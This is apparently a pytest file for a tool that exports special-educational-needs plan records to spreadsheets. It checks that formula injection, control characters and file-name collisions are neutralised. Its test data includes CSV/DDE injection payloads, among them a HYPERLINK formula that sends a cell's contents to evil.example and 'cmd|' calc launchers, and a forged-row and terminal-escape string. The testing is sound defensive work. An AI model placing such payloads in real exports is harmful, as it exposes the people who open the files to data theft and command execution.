"""Issue 17, items 1 and 5: spreadsheets that cannot run code, and termly lists that never overwrite each other.

Every name below is the attack exactly as reported: a child's name or a Section I setting name holding a formula.
A workbook must store it as a string (no `<f>` element anywhere in the sheet XML, and openpyxl reads it back as
text); CSV must prefix it with a single quote; the date columns stay real dates."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from conftest import PLANS
from ehcp_docs.documents import spreadsheets, termly_lists

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "=1+1"]


def _plan(tmp_path: Path, name: str, setting: str, n: int) -> Path:
    plan = yaml.safe_load((PLANS / "EHCP-0002.yaml").read_text(encoding="utf-8"))
    plan["id"] = f"TEST-{n:04d}"
    plan["child"]["name"] = name
    plan["child"].pop("known_as", None)
    plan["sections"]["I"]["name"] = setting
    path = tmp_path / f"TEST-{n:04d}.yaml"
    path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.fixture
def hostile_store(ehcp, tmp_path: Path) -> Path:
    files = [_plan(tmp_path, f, FORMULAS[-1 - i], i + 1) for i, f in enumerate(FORMULAS)]
    r = ehcp("add", *files)
    assert r.exit_code == 0, r.stderr
    return tmp_path


def _assert_inert(path: Path, expected: set[str]) -> None:
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    ws = load_workbook(path).active
    seen = set()
    for row in ws.iter_rows(min_row=2):
        for i, cell in enumerate(row):
            if i in spreadsheets.DATE_COLUMNS:
                assert isinstance(cell.value, datetime)  # dates keep their meaning where the column is a date
            else:
                assert cell.value is None or cell.data_type == "s", (cell.coordinate, cell.value)
                seen.add(cell.value)
    assert expected <= seen


def test_due_xlsx_stores_formulas_as_text(ehcp, hostile_store: Path):
    out = hostile_store / "due.xlsx"
    r = ehcp("due", "--from", "2026-01-01", "--to", "2027-12-31", "--today", "2026-11-28", "--format", "xlsx",
             "--out", out)
    assert r.exit_code == 0, r.stderr
    _assert_inert(out, set(FORMULAS))


def test_termly_lists_store_formulas_as_text(ehcp, hostile_store: Path):
    r = ehcp("lists", "--term", "spring-2027", "--today", "2026-11-28", "--out", hostile_store)
    assert r.exit_code == 0, r.stderr
    folder = hostile_store / "lists-spring-2027"
    sheets = sorted(folder.glob("*.xlsx"))
    assert {p.name for p in sheets} >= {"health-icb.xlsx", "social-care.xlsx"}
    _assert_inert(folder / "health-icb.xlsx", set(FORMULAS))
    _assert_inert(folder / "social-care.xlsx", set(FORMULAS))
    for p in sheets:
        _assert_inert(p, set())


def test_due_csv_neutralises_leading_formula_characters(ehcp, hostile_store: Path):
    r = ehcp("due", "--from", "2026-01-01", "--to", "2027-12-31", "--today", "2026-11-28", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    rows = list(csv.reader(io.StringIO(r.stdout)))
    body = rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for i, value in enumerate(row):
            if i in spreadsheets.DATE_COLUMNS:
                assert datetime.strptime(value, "%Y-%m-%d")
            else:
                assert not value.startswith(("=", "+", "-", "@")), value
    names = {row[1] for row in body}
    assert names == {"'" + f for f in FORMULAS}


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+44 1234", "'+44 1234"), ("-5", "'-5"),
                                             ("@x", "'@x"), ("\tx", "'\\tx"), ("Ann", "Ann"), ("", ""),
                                             ("a=b", "a=b"), ("Ann\nINJ-9999 FAKE", "Ann\\nINJ-9999 FAKE"),
                                             ("\rAnn", "'\\rAnn"), ("Ann\u202e", "Ann\\u202e")])
def test_csv_safe(value: str, expected: str):
    assert spreadsheets.csv_safe(value) == expected


OAKWOOD = "The Exampleshire Federation of Church of England Primary Schools - Oakwood"
ELMWOOD = "The Exampleshire Federation of Church of England Primary Schools - Elmwood"


def test_settings_sharing_their_first_60_characters_get_their_own_lists(ehcp, tmp_path: Path):
    assert OAKWOOD[:60] == ELMWOOD[:60]
    r = ehcp("add", _plan(tmp_path, "Ann Example", OAKWOOD, 1), _plan(tmp_path, "Ben Example", ELMWOOD, 2))
    assert r.exit_code == 0, r.stderr
    r = ehcp("lists", "--term", "spring-2027", "--today", "2026-11-28", "--out", tmp_path)
    assert r.exit_code == 0, r.stderr
    folder = tmp_path / "lists-spring-2027"
    sheets = sorted(p for p in folder.glob("setting-*.xlsx"))
    letters = sorted(p for p in folder.glob("setting-*-letter.docx"))
    assert len(sheets) == 2 and len(letters) == 2
    plans = sorted(load_workbook(p).active.cell(2, 1).value for p in sheets)
    assert plans == ["TEST-0001", "TEST-0002"]
    assert termly_lists.setting_stem(OAKWOOD) != termly_lists.setting_stem(ELMWOOD)
    assert termly_lists.setting_stem(OAKWOOD) == termly_lists.setting_stem(OAKWOOD)  # stable
    # issue 16.6: "none" is a truly empty cell (not "-", not an empty string), which a filter shows as (Blanks)
    ws = load_workbook(sheets[0]).active
    overdue = ws.cell(2, spreadsheets.HEADER.index("Overdue") + 1)
    assert overdue.value is None and overdue.data_type == "n"


def test_a_hash_collision_never_overwrites_a_file_of_the_same_run(monkeypatch):
    monkeypatch.setattr(termly_lists, "setting_stem", lambda s: "setting-same")
    stems = termly_lists.setting_stems(["A", "B", "C"])
    assert len(set(stems.values())) == 3


# Issue 17 item 13: a name committed by hand with control and direction-changing characters. The checks refuse it
# on `add`; a colleague's plain git commit does not go through them.
RAW = "Ann\rX\nINJ-9999 FAKE\u202eevil\x9b31m\x7f\x1b[31mRED\x07\u2066"
ESCAPED = "Ann\\rX\\nINJ-9999 FAKE\\u202eevil\\x9b31m\\x7f\\x1b[31mRED\\x07\\u2066"


@pytest.fixture
def control_store(ehcp, store_path: Path) -> Path:
    import json
    import subprocess

    assert ehcp("add", PLANS / "EHCP-0001.yaml", PLANS / "EHCP-0002.yaml").exit_code == 0
    plan = store_path / "plans" / "EHCP-0002" / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    for old in ("name: Oliver Brennan-Hayes", "name: St Aidan's Church of England Primary School"):
        assert old in text
        text = text.replace(old, f"name: {json.dumps(RAW)}")
    plan.write_text(text, encoding="utf-8")
    subprocess.run(["git", "-C", str(store_path), "commit", "-qam", "typed in by hand"], check=True)
    return store_path


def test_due_csv_keeps_each_plan_on_one_line_with_control_characters_escaped(ehcp, control_store: Path):
    r = ehcp("due", "--from", "2026-01-01", "--to", "2027-12-31", "--today", "2026-11-28", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    lines = r.stdout.splitlines()
    assert not [line for line in lines if line.startswith("INJ-9999")]  # no forged row
    row = next(line for line in lines if line.startswith("EHCP-0002,"))
    assert row.split(",")[1] == ESCAPED and row.split(",")[4] == ESCAPED


def test_lists_with_a_control_character_in_a_name_are_all_written_and_escaped(ehcp, control_store: Path,
                                                                             tmp_path: Path):
    """Such a name once stopped the setting's list, the health list and the social care list of the whole store
    (openpyxl's IllegalCharacterError), and the warning printed the name with its line break."""
    r = ehcp("lists", "--term", "spring-2027", "--today", "2026-11-28", "--jobs", "1", "--out", tmp_path)
    assert r.exit_code == 0, r.stderr
    assert "could not be written" not in r.stderr and "INJ-9999" not in r.stderr.replace("inj-9999", "")
    folder = tmp_path / "lists-spring-2027"
    for sheet in [folder / "health-icb.xlsx", folder / "social-care.xlsx", *folder.glob("setting-ann-*.xlsx")]:
        rows = [row for row in load_workbook(sheet).active.iter_rows(values_only=True) if row[0] == "EHCP-0002"]
        assert rows and rows[0][1] == ESCAPED and rows[0][4] == ESCAPED, sheet.name


def test_a_document_that_fails_unexpectedly_is_named_without_the_errors_text(monkeypatch):
    """An unexpected error's text can hold a value from the plan: the batch names its kind only (item 12)."""
    from ehcp_docs.documents import batch

    def work(store, *args):
        raise ValueError("Oliver Brennan-Hayes\nINJ-9999 FAKE cannot be used")

    name, made, err = batch._run(None, "EHCP-0002", work, ())  # type: ignore[arg-type]
    assert (name, made, err) == ("EHCP-0002", [], "unexpected error: ValueError")


def test_a_failed_jobs_name_is_printed_on_one_line(capsys):
    from ehcp_docs.cli import output

    output.failures([(RAW, "could not write it")])
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and ESCAPED in err
